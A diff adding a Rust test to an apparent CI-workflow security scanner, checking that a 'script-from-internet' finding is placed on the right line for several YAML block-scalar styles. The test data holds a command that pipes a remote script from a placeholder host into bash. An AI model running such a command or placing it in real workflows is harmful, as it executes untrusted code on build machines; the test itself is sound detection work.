@@ -45,3 +45,17 @@ fn an_expression_in_a_script_is_underlined_where_it_stands() {
         assert_eq!(finding["resource"]["address"], "jobs.lint");
     }
 }
+
+/// A script of one line in a block scalar is underlined in its own line.
+#[test]
+fn a_script_of_one_line_is_underlined_where_it_stands() {
+    for (header, line) in [("|", 8), ("|-", 8), (">-", 7)] {
+        let script = format!("      - run: {header}\n          curl -s https://get.example.net/x.sh | bash\n");
+        let text = WORKFLOW.replace("      - run: make lint\n", &script);
+        let workspace = files(&[(".github/workflows/ci.yml", &text)]);
+        let (report, _) = report(&workspace, &[".github"]);
+        let found: Vec<_> = report["findings"].as_array().expect("findings").iter().collect();
+        let script = found.iter().find(|it| it["risk"] == "script-from-internet").expect("a finding");
+        assert_eq!(script["range"]["start"]["line"], line - 1, "{header}");
+    }
+}
